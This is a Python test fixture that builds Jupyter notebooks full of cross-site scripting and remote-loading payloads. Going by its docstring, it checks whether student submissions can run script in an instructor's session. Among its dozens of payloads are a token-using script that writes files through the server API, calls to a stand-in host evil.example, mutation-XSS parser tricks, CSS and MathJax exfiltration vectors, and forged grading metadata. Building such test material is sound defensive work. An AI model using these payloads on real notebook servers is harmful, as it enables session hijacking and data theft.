"""What a student could write to run script in an instructor's session, or to have something loaded from elsewhere.

`RUN` stands for the script: it leaves a file through the server's API. `EVIL` stands for another server.
"""

# ruff: noqa: E501 - each stands in one line, as it would be written

import base64
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

EVIL = "http://evil.example"
RUN = (
    "fetch('/api/contents/stolen-NAME.txt',{method:'PUT',headers:{'X-XSRFToken':"
    "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},body:JSON.stringify({type:'file',format:'text',content:'x'})})"
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="{EVIL}/NAME"/><circle r="9"/></svg>'
PAGE = base64.b64encode(b"<script>RUN</script>").decode()

WRITTEN = {
    "script": "<script>RUN</script>",
    "img-onerror": 'Because <img src="nothing" onerror="RUN">.',
    "svg-onload": SVG,
    "details-ontoggle": '<details open ontoggle="RUN"><summary>s</summary></details>',
    "input-onfocus": '<input autofocus onfocus="RUN">',
    "body-onload": '<body onload="RUN">',
    "style-onload": '<style onload="RUN">@import "EVIL/NAME";</style>',
    "video-source": '<video><source onerror="RUN" src="nothing"></video>',
    "marquee": '<marquee onstart="RUN">m</marquee>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "iframe-data": f'<iframe src="data:text/html;base64,{PAGE}"></iframe>',
    "object": f'<object data="data:text/html;base64,{PAGE}"></object><embed src="EVIL/NAME">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=EVIL/NAME">',
    "base": '<base href="EVIL/" target="_blank">',
    "form": '<form id="f" action="EVIL/NAME"></form><script>f.submit()</script>',
    "remote-image": "![a plot](EVIL/NAME.png)",
    "reference-image": "![a plot][p]\n\n[p]: EVIL/NAME.png",
    "srcset": '<img srcset="EVIL/NAME 1x"><picture><source srcset="EVIL/NAME2"><img></picture>',
    "css-url": '<p style="background:url(EVIL/NAME)">a</p>',
    "stylesheet": '<link rel="stylesheet" href="EVIL/NAME.css"><link rel="prefetch" href="EVIL/NAME">',
    "font": "<style>@font-face{font-family:x;src:url(EVIL/NAME)} *{font-family:x}</style>a",
    "javascript-link": "[see here](javascript:RUN) and <a href='javascript:RUN'>here</a>",
    "named-signs": "&lt;img src=x&gt; &#60;img src=nothing onerror=RUN&#62; [a](&#106;avascript:RUN)",
    "code-or-not": "``a ` <img src=nothing onerror=RUN> ` b``\n\n$`$<img src=nothing onerror=RUN>$`$",
    "fence-or-not": "```\n~~~\n```\n<img src=nothing onerror=RUN>\n~~~\n<img src=nothing onerror=RUN>",
    "in-math": "$$a<img src=nothing onerror=RUN>b$$ and $x</script><script>RUN</script>$",
    "math-link": "$\\href{javascript:RUN}{x}$ and $&#92;href{javascript:RUN}{x}$",
    "math-style": "$\\style{background:url(EVIL/NAME)}{x} \\require{html} \\cssId{explain_scaling}{y}$",
    "math-script": '<script type="math/tex">\\href{javascript:RUN}{x}</script>',
    "mermaid": "```mermaid\ngraph TD; A[<img src=nothing onerror=RUN>]; click A href 'javascript:RUN'\n```",
    "plain-tag": "<details/onclick=RUN><br/onclick=RUN></details>",
    "unclosed": "<img src=nothing onerror=RUN//",
    "comment": "<!--><img src=nothing onerror=RUN>-->",
    "takes-a-field": '# explain_scaling\n\nexplain_scaling\n---\n\n<div id="explain_scaling"></div>',
}
SHOWN: dict[str, dict[str, Any]] = {
    "out-html": {"text/html": '<b>b</b><img src=nothing onerror="RUN"><script>RUN</script>'},
    "out-mutation": {
        "text/html": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=n onerror=RUN>'>"
    },
    "out-style": {
        "text/html": '<p style="background:url(EVIL/NAME);position:fixed;top:0">a</p><style>@import "EVIL/N"</style>'
    },
    "out-link": {"text/html": '<a href="javascript:RUN" ping="EVIL/NAME">a</a><a href="EVIL/NAME">there</a>'},
    "out-script": {"application/javascript": "RUN"},
    "out-svg": {"image/svg+xml": SVG},
    "out-latex": {"text/latex": "<img src=nothing onerror=RUN>$\\href{javascript:RUN}{x}$"},
    "out-markdown": {"text/markdown": "<img src=nothing onerror=RUN>"},
    "out-png": {"image/png": 'x" onerror="RUN'},
    "out-widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>RUN</script>"}},
}

IMG = "<img src=nothing onerror=RUN>"
# Text that one parser ends elsewhere than another: what looks like an attribute's value becomes a tag.
ENDED = f'{{0}}<p title="{{1}}{IMG}">'
DRAWN = base64.b64encode(SVG.encode()).decode()
WRITTEN |= {
    "svg-script": f'<svg><script>RUN</script><script href="data:,RUN"></script><script xlink:href="{EVIL}/NAME"/></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml;base64,{DRAWN}#x"/><use xlink:href="EVIL/NAME#x"/></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:RUN"/><text y="9">a</text></a></svg>',
    "svg-set": '<svg><set attributeName="onmouseover" to="RUN"/><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
    "svg-foreign": f'<svg><foreignObject><iframe src="javascript:RUN"></iframe>{IMG}</foreignObject></svg>',
    "svg-filter": '<svg><filter id="f"><feImage href="EVIL/NAME"/></filter><rect filter="url(EVIL/NAME2#f)"/></svg>',
    "svg-style": '<svg><style>@import url(EVIL/NAME);*{fill:url("EVIL/NAME2")}</style><rect/></svg>',
    "svg-desc": f"<svg><desc><template>{IMG}</template>{IMG}</desc><title>{IMG}</title></svg>",
    "mathml-link": '<math href="javascript:RUN"><mi xlink:href="javascript:RUN">a</mi></math>',
    "mathml-action": '<math><maction actiontype="statusline#RUN" xlink:href="javascript:RUN">a</maction></math>',
    "mathml-annotation": f'<math><annotation-xml encoding="text/html">{IMG}</annotation-xml></math>',
    "template-shadow": f'<div><template shadowrootmode="open">{IMG}<link rel="stylesheet" href="EVIL/NAME"></template></div>',
    "template-nested": f"<template><template>{IMG}</template></template></template>{IMG}",
    "srcdoc-entities": '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    "srcdoc-sandbox": f"<iframe sandbox='allow-scripts allow-same-origin' srcdoc='{IMG}'></iframe>",
    "frameset": '<frameset onload="RUN"><frame src="javascript:RUN"></frameset>',
    "portal": '<portal src="EVIL/NAME"></portal><fencedframe src="EVIL/NAME2"></fencedframe><webview src="EVIL/NAME3">',
    "meta-data": f'<meta http-equiv="refresh" content="0; url=data:text/html;base64,{PAGE}">',
    "meta-script": '<META HTTP-EQUIV=refresh CONTENT="0;javascript:RUN"><meta http-equiv="Link" content="<EVIL/NAME>; rel=preload">',
    "base-late": 'Text <base href="javascript:/a/-RUN//"> <a href="#">a</a> <img src="NAME.png">',
    "style-import": "<style>@im\\port 'EVIL/NAME';@import/**/url(EVIL/NAME2) screen;</style>",
    "style-escapes": '<p style="background:\\75rl(EVIL/NAME);cursor:u\\72 l(EVIL/NAME2),auto;content:url(EVIL/NAME3)">a</p>',
    "style-image-set": "<p style=\"background:image-set('EVIL/NAME' 1x);list-style:url(EVIL/NAME2);--x:url(EVIL/NAME3)\">a</p>",
    "style-layer": '<style>@layer a;@import "EVIL/NAME" layer(a);@namespace url(EVIL/NAME2);a{mask:url(EVIL/NAME3)}</style>',
    "style-animation": '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="RUN">a</b>',
    "old-backgrounds": '<table background="EVIL/NAME"><td background="EVIL/NAME2"></table><body background="EVIL/NAME3">',
    "media": '<audio src="EVIL/NAME" autoplay></audio><video poster="EVIL/NAME2"><track src="EVIL/NAME3" default></video>',
    "image-input": '<input type="image" src="EVIL/NAME" onerror="RUN"><img lowsrc="EVIL/NAME2" dynsrc="EVIL/NAME3">',
    "preload": '<link rel="preload" as="image" imagesrcset="EVIL/NAME 1x"><link rel="modulepreload" href="EVIL/NAME2">',
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["EVIL/NAME"],"eagerness":"immediate"}]}</script>',
    "module": '<script type="importmap">{"imports":{"a":"EVIL/NAME"}}</script><script type="module">import "a"; RUN</script>',
    "popover": '<p popover id="pop" onbeforetoggle="RUN">a</p><button popovertarget="pop" autofocus onfocus="RUN">b</button>',
    "editable": '<p contenteditable autofocus tabindex="0" onfocus="RUN" onfocusin="RUN" accesskey="x">a</p>',
    "object-svg": f'<object type="image/svg+xml" data="data:image/svg+xml;base64,{DRAWN}"></object><applet code="EVIL/NAME">',
    "xml": f'<?xml-stylesheet href="EVIL/NAME"?><?a >{IMG}?><!DOCTYPE a [<!ENTITY b SYSTEM "EVIL/NAME2">]>&b;',
    "cdata": f"<![CDATA[>{IMG}]]><svg><![CDATA[</svg>{IMG}]]></svg>",
    "comment-bang": f"<!-- a --!>{IMG} --><!-->{IMG}--><!--->{IMG}-->",
    "comment-in-comment": f"<!-- <!-- --> {IMG} --><!-- a\n\n{IMG}\n\n-->",
    "mutated-noscript": ENDED.format("<noscript>", "</noscript>"),
    "mutated-title": ENDED.format("<title>", "</title>") + ENDED.format("<textarea>", "</textarea>"),
    "mutated-style": ENDED.format("<svg></p><style>", "</style>") + ENDED.format("<math><style>", "</style></math>"),
    "mutated-raw": ENDED.format("<xmp>", "</xmp>") + ENDED.format("<noembed>", "</noembed>"),
    "mutated-frames": ENDED.format("<noframes>", "</noframes>") + f"<plaintext>{IMG}",
    "mutated-form": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "mutated-textarea": ENDED.format("<math><mtext><table><mglyph><svg><mtext><textarea>", "</textarea>"),
    "mutated-select": f'<select><template><style><!--</style><a rel="--></style></template></select>{IMG}">',
    "mutated-table": f"<table><caption><svg><title><table>{IMG}</title><style>{IMG}</style></table>",
    "reference-link": "[a][j] [j][] [j]\n\n[j]: javascript:RUN\n[k]: <javascript:RUN> 'b'\n\n[a][k] ![a][k]",
    "reference-data": f"[a][d]\n\n[d]: data:text/html;base64,{PAGE}",
    "auto-link": f"<javascript:RUN> <data:text/html;base64,{PAGE}> <vbscript:RUN>",
    "link-title": f'[a](b "\'>{IMG}") [a](b \'">{IMG}\') ![">{IMG}](b) [a](b"onmouseover="RUN)',
    "split-scheme": "[a](java&Tab;script:RUN) [b](java&#10;script:RUN) <a href='java\tscript:RUN'>c</a> [d](\x01javascript:RUN)",
    "hidden-signs": "<im\x00g src=nothing onerror=RUN><\u200bimg src=nothing onerror=RUN><\u2060script>RUN</script>",
    "math-unicode": f"$\\unicode{{x3C}}$ $\\require{{unicode}}\\unicode[{IMG}]{{65}}$ $\\text{{{IMG}}}$",
    "math-define": "$\\def\\x{\\href}\\x{javascript:RUN}{y}$ $\\let\\z\\href\\z{javascript:RUN}{y}$ $\\newcommand{\\w}[1]{\\href{#1}{y}}$",
    "math-csname": "$\\csname href\\endcsname{javascript:RUN}{x}$ $\\expandafter\\href\\expandafter{javascript:RUN}{x}$",
    "math-require": "$\\require{action}\\toggle{a}{b}\\endtoggle$ $\\require{EVIL/NAME}$ $\\mathtip{a}{\\href{javascript:RUN}{b}}$",
    "math-brackets": f"\\\\({IMG}\\\\) \\\\[\\href{{javascript:RUN}}{{x}}\\\\] \\begin{{equation}}{IMG}\\end{{equation}}",
    "math-config": '<script type="text/x-mathjax-config">RUN</script><script type="math/mml"><math href="javascript:RUN"/></script>',
    "table-and-note": f"| a | {IMG} |\n|---|---|\n| b | [c](javascript:RUN) |\n\na[^1]\n\n[^1]: {IMG}",
    "fence-info": f'```"><img/src=nothing/onerror=RUN>\na\n```\n\n```{{=html}}\n{IMG}\n```\n\n    {IMG}\n',
    "heading-attributes": '# a {#explain_scaling onclick="RUN" .x}\n\n## <a name="explain_scaling" href="javascript:RUN">b</a>',
    "in-a-template": "{{ ''.__class__.__mro__ }}{% include 'EVIL/NAME' %}{{ constructor.constructor('RUN')() }}${RUN}",
    "picture-breaks-out": f'![a](data:image/png;base64,AA"onerror="RUN) ![a](data:image/svg+xml;base64,{DRAWN})',
}
SHOWN |= {
    "out-svg-ends": {"image/svg+xml": f"<svg><svg onload='RUN'></svg>{IMG}</svg></svg>{IMG}<svg>"},
    "out-svg-label": {
        "image/svg+xml": '<svg aria-label=\'a" onerror="RUN\'></svg><svg aria-label="a&quot; onerror=&quot;RUN"></svg>'
    },
    "out-svg-in-html": {
        "text/html": f"<p><svg><style>*{{fill:url(EVIL/NAME)}}</style><a href='javascript:RUN'>{IMG}</a></svg>"
    },
    "out-svg-entities": {"image/svg+xml": '<!DOCTYPE svg [<!ENTITY a SYSTEM "EVIL/NAME">]><svg><text>&a;</text></svg>'},
    "out-noscript": {"text/html": ENDED.format("<noscript>", "</noscript>") + ENDED.format("<noembed>", "</noembed>")},
    "out-raw-text": {
        "text/html": ENDED.format("<xmp>", "</xmp>") + ENDED.format("<title>", "</title>") + "<plaintext>"
    },
    "out-foreign": {
        "text/html": ENDED.format("<svg></p><style>", "</style>") + f"<math><mi//xlink:href='data:x,<script>RUN'>{IMG}"
    },
    "out-select": {"text/html": f"<select><style></select>{IMG}</style><table><select><math><mtext>{IMG}"},
    "out-form": {"text/html": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"},
    "out-comment": {"text/html": f"<!-- --!>{IMG}--><!-->{IMG}--><!--[if IE]>{IMG}<![endif]--><!{IMG}"},
    "out-cdata": {"text/html": f"<svg><![CDATA[</svg>{IMG}]]></svg><?a {IMG}?><//{IMG}"},
    "out-template": {"text/html": f'<div><template shadowrootmode="open">{IMG}</template></div>'},
    "out-frames": {
        "text/html": f"<iframe srcdoc='{IMG}'></iframe><frame src='javascript:RUN'><object data='EVIL/NAME'>"
    },
    "out-meta": {
        "text/html": '<meta http-equiv="refresh" content="0;url=EVIL/NAME"><base href="EVIL/"><img src="a.png">'
    },
    "out-styles": {
        "text/html": "<p style=\"background:\\75rl(EVIL/NAME);color:image-set('EVIL/N2' 1x)\">a</p><link rel=stylesheet href=EVIL/N3>"
    },
    "out-srcset": {
        "text/html": '<img srcset="EVIL/NAME 1x" src="data:image/png;base64,AA=="><picture><source srcset="EVIL/N2"></picture>'
    },
    "out-attributes": {
        "text/html": f"<p/onclick=RUN/onmouseover=RUN>a</p><td style='x:\"' title='{IMG}'><b\x00 onclick=RUN>"
    },
    "out-half-a-tag": {"text/html": "a<img src=nothing onerror=RUN"},
    "out-entities": {
        "text/html": "&lt;img src=nothing onerror=RUN&gt;<p title='&lt;/p&gt;&lt;img src=n onerror=RUN&gt;'>&#60;script>RUN&#60;/script>"
    },
    "out-id": {"text/html": '<p id="explain_scaling" name="explain_scaling" class="MathJax_Preview">a</p>'},
    "out-script-kinds": {
        f"{kind}/{name}": "RUN"
        for kind in ("application", "text")
        for name in ("javascript", "x-javascript", "ecmascript")
    },
    "out-programs": {
        "application/vnd.bokehjs_exec.v0+json": "RUN",
        "application/vnd.plotly.v1+json": {"data": [], "layout": {"title": "<img src=nothing onerror=RUN>"}},
        "application/vdom.v1+json": {"tagName": "img", "attributes": {"src": "nothing", "onError": "RUN"}},
        "application/vnd.vegalite.v5+json": {"data": {"url": "EVIL/NAME"}},
        "application/geo+json": {"url": "EVIL/NAME"},
    },
    "out-document": {
        "application/pdf": PAGE,
        "application/xhtml+xml": IMG,
        "text/xml": IMG,
        "text/uri-list": "EVIL/NAME",
    },
    "out-latex-script": {
        "text/latex": f"$$a</script>{IMG}$$ \\begin{{align}}\\require{{html}}\\href{{javascript:RUN}}{{x}}\\end{{align}}"
    },
    "out-latex-define": {
        "text/latex": "$\\def\\x{\\href}\\x{javascript:RUN}{y}\\csname url\\endcsname{javascript:RUN}$"
    },
    "out-markdown-links": {
        "text/markdown": "[a](javascript:RUN) [a][j] ![a](EVIL/NAME) <javascript:RUN>\n\n[j]: javascript:RUN"
    },
    "out-markdown-fence": {
        "text/markdown": f"```mermaid\ngraph TD; A[{IMG}]\n```\n\n```{{=html}}\n{IMG}\n```\n\n| {IMG} |\n|-|\n"
    },
    "out-plain": {"text/plain": f"{IMG}</pre>{IMG}\x1b]8;;javascript:RUN\x07a\x1b]8;;\x07"},
    "out-jpeg": {"image/jpeg": f"/9j/{DRAWN}", "image/gif": 'R0lGODlh"onerror="RUN', "image/webp": "EVIL/NAME"},
}

WIDGETS: dict[str, Any] = {
    "application/vnd.jupyter.widget-state+json": {"state": {"</script><script>alert(1)</script>": {}}}
}


def filled(text: str, name: str) -> str:
    """A payload with its script, which leaves a file of this name, and with the other server's address."""
    return text.replace("RUN", RUN).replace("EVIL", EVIL).replace("NAME", name)


def notebook(*names: str) -> nbformat.NotebookNode:
    """A notebook with these payloads, all of them if none is named: as answers, outputs, metadata."""
    cells = [new_markdown_cell(filled(text, name)) for name, text in WRITTEN.items() if not names or name in names]
    for name, bundle in SHOWN.items():
        if not names or name in names:
            data = {kind: filled(text, name) if isinstance(text, str) else text for kind, text in bundle.items()}
            isolated = {"text/html": {"isolated": True}, "image/png": {"width": '1" onerror="RUN'}}
            shown = [new_output("display_data", data=data), new_output("display_data", data=data, metadata=isolated)]
            cells.append(new_code_cell("1", outputs=shown))
    if not names:
        forged = {"grade_id": filled('x"><img src=nothing onerror="RUN">', "meta"), "grade": True, "points": 1}
        tags = ['"><img src=nothing onerror="alert(1)">']
        cells.append(new_markdown_cell("An answer.", metadata={"nbgrader": forged | {"solution": True}, "tags": tags}))
        cells.append(new_raw_cell(filled(WRITTEN["script"], "raw"), metadata={"raw_mimetype": "text/html"}))
        wrong = {"a.png": {"text/html": filled(WRITTEN["script"], "attached")}}
        cells.append(new_markdown_cell("![a](attachment:a.png)", attachments=wrong))
        page, ended = filled(IMG, "stream"), filled(f"</pre>{IMG}", "error")
        link = filled("\x1b]8;;javascript:RUN\x07a\x1b]8;;\x07\x1b[31m", "terminal")
        told = [new_output("stream", text=f"{page}</pre>{page}{link}")]
        told.append(new_output("error", ename=ended, evalue=ended, traceback=[f"{link}{ended}", page]))
        cells.append(new_code_cell(page, outputs=told))
    made: nbformat.NotebookNode = new_notebook(cells=cells, metadata={"widgets": WIDGETS})
    return made
